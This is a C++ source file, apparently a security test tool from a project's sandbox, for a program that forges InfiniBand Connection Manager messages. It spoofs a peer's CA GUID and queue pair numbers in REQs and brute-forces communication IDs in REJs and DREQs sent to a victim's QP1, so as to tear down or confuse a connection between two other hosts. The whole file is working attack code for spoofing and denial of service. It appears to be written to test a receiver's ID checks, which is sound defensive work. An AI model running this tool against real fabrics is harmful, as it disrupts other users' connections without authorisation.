// openib-cm-forge: a hostile host's forged CM MADs against a connection
// between two other hosts (issue 29, findings 8 and 9; the sandbox's
// cm_hostile_host.sh). As root on the attacking host it opens the user-MAD
// service on a port through libibumad.so.3 (<infiniband/umad.h>, as
// OpenSM does; docs/umad.md), registers a CM agent (class 0x07, version 2)
// with no methods (ibd's own CM holds Send and Get: the answers go there,
// as they would to a second host's ib_cm), and sends to the victim's QP1:
//
//  - REQs (IBA 12.6.5) whose Local CA GUID is --ca-guid (the CA GUID of the
//    victim's peer) and whose Local QPN runs over --qpn-first..--qpn-last
//    in steps of --qpn-step, plus every --qpn (a QPN the attacker learnt),
//    each with a fresh Local Communication ID: what a receiver takes for a
//    stale connection (IBA 12.9.8.3.1) when the pair names a live one;
//  - REJs (IBA 12.6.7) and DREQs (IBA 12.6.10) whose own (Local)
//    Communication ID is 0 and whose Remote Communication ID is each
//    --comm-id (the victim's own ID, if the attacker saw it) and
//    --comm-guesses random values; the DREQs' Remote QPN is --dreq-qpn
//    (the victim's QPN). A receiver must check the pair of IDs (Linux's
//    cm_acquire_id), not only its own.
//
// Each real --qpn and --comm-id is sent --repeat times (UD may drop one).
// The messages are encoded with src/cm/wire.hpp's codec, so each decodes:
// the receiver's answer is about what they say, not how. The last line:
//   forged REQ N REJ N DREQ N to LID L
//   openib-cm-forge --lid L --ca-guid G [--qpn Q]... [--comm-id C]... [--dreq-qpn Q]
#include <arpa/inet.h>
#include <infiniband/umad.h>
#include <unistd.h>

#include <CLI/CLI.hpp>
#include <chrono>
#include <cinttypes>
#include <cstdio>
#include <cstring>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include "cm/wire.hpp"

namespace cm = openib::cm;

namespace {

struct Opts {
  std::string ca;
  int port = 1, lid = 0, sl = 0, repeat = 3, pace_us = 300;
  uint64_t ca_guid = 0, service_id = 0x00000001000000f0ull;  // nobody listens there: REJ 8 unless stale
  uint32_t qpn_first = 1, qpn_last = 4096, qpn_step = 1, dreq_qpn = 0, comm_guesses = 1024;
  int claim_lid = 0;
  std::string claim_gid;  // REQ primary path's Local Port GID (IPv6 notation)
  std::string private_hex;  // REQ private data (hex bytes)
  std::vector<uint32_t> qpns, comm_ids;
  bool no_req = false, no_rej = false, no_dreq = false;
  uint64_t seed = 29;
};

[[noreturn]] void die(const std::string& what) {
  std::fprintf(stderr, "openib-cm-forge: %s\n", what.c_str());
  std::exit(1);
}

class Forger {
 public:
  explicit Forger(const Opts& o) : o_(o), rng_(o.seed), buf_(umad_size() + 256) {
    if (umad_init() < 0) die("umad_init failed");
    fd_ = umad_open_port(o.ca.empty() ? nullptr : o.ca.c_str(), o.port);
    if (fd_ < 0) die("umad_open_port: " + std::string(std::strerror(-fd_)) + " (as root, with ibd running?)");
    umad_port_t p{};
    if (umad_get_port(o.ca.empty() ? nullptr : o.ca.c_str(), o.port, &p) < 0) die("umad_get_port failed");
    own_lid_ = p.base_lid;
    umad_release_port(&p);
    // No methods: this agent only sends (ibd's CM keeps the class's methods).
    agent_ = umad_register(fd_, cm::kMgmtClass, cm::kClassVersion, 0, nullptr);
    if (agent_ < 0) die("umad_register(class 0x07, version 2): " + std::string(std::strerror(-agent_)));
  }
  ~Forger() { umad_close_port(fd_); }

  uint32_t fresh_id() {
    uint32_t v = 0;
    while (v == 0) v = uint32_t(rng_());
    return v;
  }
  int own_lid() const { return own_lid_; }
  int errors() const { return errors_; }

  // One MAD to the victim's QP1 (GSI Q_Key, IBA 13.5.1), no response awaited.
  void send(const cm::Message& m) {
    const auto mad = cm::encode(m, rng_() & 0xffffffffu);
    std::memset(buf_.data(), 0, buf_.size());
    std::memcpy(umad_get_mad(buf_.data()), mad.data(), mad.size());
    umad_set_addr(buf_.data(), o_.lid, 1, o_.sl, 0x80010000);
    if (umad_send(fd_, agent_, buf_.data(), int(mad.size()), 0, 0) < 0) ++errors_;
    if (o_.pace_us) std::this_thread::sleep_for(std::chrono::microseconds(o_.pace_us));
  }

 private:
  const Opts& o_;
  std::mt19937_64 rng_;
  std::vector<uint8_t> buf_;
  int fd_ = -1, agent_ = -1, own_lid_ = 0, errors_ = 0;
};

// A REQ an RC client would send (IBA 12.6.5), claiming to be QPN `qpn` of
// the CA `ca_guid`: each field in range, so that it decodes.
cm::Req forged_req(const Opts& o, Forger& f, uint32_t qpn) {
  cm::Req q;
  q.local_comm_id = f.fresh_id();
  q.service_id = o.service_id;
  q.local_ca_guid = o.ca_guid;
  q.local_qpn = qpn & 0xffffff;
  q.responder_resources = 1;
  q.initiator_depth = 1;
  q.remote_cm_response_timeout = 20;
  q.local_cm_response_timeout = 20;
  q.transport_service_type = cm::transport::kRc;
  q.starting_psn = f.fresh_id() & 0xffffff;
  q.retry_count = 7;
  q.rnr_retry_count = 7;
  q.max_cm_retries = 15;
  q.pkey = 0xffff;
  q.path_mtu = 3;  // 1024
  // The path may lie too (the peer's LID as its own); the MAD's source
  // LID is the attacker's all the same.
  q.primary.local_lid = uint16_t(o.claim_lid ? o.claim_lid : f.own_lid());
  q.primary.remote_lid = uint16_t(o.lid);
  q.primary.packet_rate = 3;
  q.primary.subnet_local = true;
  q.primary.hop_limit = 0xff;
  q.primary.local_ack_timeout = 18;
  // IPoIB-CM (ipoib_cm.sh): the GID claimed, and private data naming a UD QPN.
  if (!o.claim_gid.empty() && ::inet_pton(AF_INET6, o.claim_gid.c_str(), q.primary.local_gid.data()) != 1)
    die("not a GID: " + o.claim_gid);
  for (size_t i = 0; i + 1 < o.private_hex.size() && i / 2 < q.private_data.size(); i += 2)
    q.private_data[i / 2] = uint8_t(std::stoul(o.private_hex.substr(i, 2), nullptr, 16));
  return q;
}

}  // namespace

int main(int argc, char** argv) {
  Opts o;
  CLI::App app{"openib-cm-forge: forged CM REQs, REJs and DREQs against another host's connection (root)"};
  app.add_option("--lid", o.lid, "the victim's LID (its QP1)")->required();
  app.add_option("--ca-guid", o.ca_guid, "REQ Local CA GUID: the victim's peer's CA GUID")->required();
  app.add_option("--qpn", o.qpns, "a QPN to claim besides the range (the peer's real one; repeatable)");
  app.add_option("--qpn-first", o.qpn_first, "first QPN of the range (default 1)");
  app.add_option("--qpn-last", o.qpn_last, "last QPN of the range (default 4096)");
  app.add_option("--qpn-step", o.qpn_step, "step over the range (default 1)");
  app.add_option("--comm-id", o.comm_ids, "REJ/DREQ Remote Communication ID: the victim's own (repeatable)");
  app.add_option("--comm-guesses", o.comm_guesses, "REJs and DREQs with random Remote Communication IDs (default 1024)");
  app.add_option("--dreq-qpn", o.dreq_qpn, "DREQ Remote QPN/EECN: the victim's QPN");
  app.add_option("-S,--service-id", o.service_id, "REQ Service ID (default 0x00000001000000f0)");
  app.add_option("--claim-lid", o.claim_lid, "REQ primary path's Local Port LID (default: this port's)");
  app.add_option("--claim-gid", o.claim_gid, "REQ primary path's Local Port GID (default: none)");
  app.add_option("--private-hex", o.private_hex, "REQ private data, hex bytes (default: none)");
  app.add_option("--repeat", o.repeat, "sends of each real QPN and comm ID (default 3)");
  app.add_option("--pace-us", o.pace_us, "microseconds between MADs (default 300)");
  app.add_option("--sl", o.sl, "SL (default 0)");
  app.add_option("--ca", o.ca, "CA name (default: the first)");
  app.add_option("-i,--ib-port", o.port, "port (default 1)");
  app.add_option("--seed", o.seed, "random seed (comm IDs, TIDs, guesses)");
  app.add_flag("--no-req", o.no_req, "no REQs");
  app.add_flag("--no-rej", o.no_rej, "no REJs");
  app.add_flag("--no-dreq", o.no_dreq, "no DREQs");
  CLI11_PARSE(app, argc, argv);
  if (o.qpn_step == 0 || o.repeat <= 0) die("--qpn-step and --repeat must be positive");

  Forger f(o);
  unsigned reqs = 0, rejs = 0, dreqs = 0;
  if (!o.no_req) {
    // The real QPNs first, in the middle and last: whatever the range does
    // to the victim's ibd, they are among what it handles.
    auto real = [&] {
      for (uint32_t q : o.qpns) f.send(forged_req(o, f, q)), ++reqs;
    };
    const uint32_t mid = o.qpn_first + (o.qpn_last - o.qpn_first) / 2;
    int rounds = 0;
    if (rounds++ < o.repeat) real();
    for (uint64_t q = o.qpn_first; q <= o.qpn_last; q += o.qpn_step) {
      f.send(forged_req(o, f, uint32_t(q)));
      ++reqs;
      if (q <= mid && q + o.qpn_step > mid && rounds++ < o.repeat) real();
    }
    while (rounds++ < o.repeat) real();
    std::printf("REQ sent %u (Local CA GUID 0x%016" PRIx64 ", QPNs %u..%u step %u, %zu real x %d)\n", reqs,
                o.ca_guid, o.qpn_first, o.qpn_last, o.qpn_step, o.qpns.size(), o.repeat);
  }
  // REJ and DREQ of own comm ID 0: the real IDs, then the guesses.
  std::vector<uint32_t> remote;
  for (int r = 0; r < o.repeat; ++r) remote.insert(remote.end(), o.comm_ids.begin(), o.comm_ids.end());
  for (uint32_t g = 0; g < o.comm_guesses; ++g) remote.push_back(f.fresh_id());
  for (uint32_t id : remote) {
    if (!o.no_rej) {
      cm::Rej r;
      r.local_comm_id = 0;
      r.remote_comm_id = id;
      r.message_rejected = cm::MsgRejected::kOther;
      r.reason = cm::RejReason::kConsumerReject;
      f.send(r);
      ++rejs;
    }
    if (!o.no_dreq) {
      cm::Dreq d;
      d.local_comm_id = 0;
      d.remote_comm_id = id;
      d.remote_qpn_eecn = o.dreq_qpn & 0xffffff;
      f.send(d);
      ++dreqs;
    }
  }
  if (!o.no_rej || !o.no_dreq)
    std::printf("REJ sent %u, DREQ sent %u (Local Comm ID 0; %zu real Remote Comm IDs x %d, %u guesses)\n", rejs,
                dreqs, o.comm_ids.size(), o.repeat, o.comm_guesses);
  if (f.errors()) die(std::to_string(f.errors()) + " sends failed");
  std::printf("forged REQ %u REJ %u DREQ %u to LID %d from LID %d\n", reqs, rejs, dreqs, o.lid, f.own_lid());
  return 0;
}
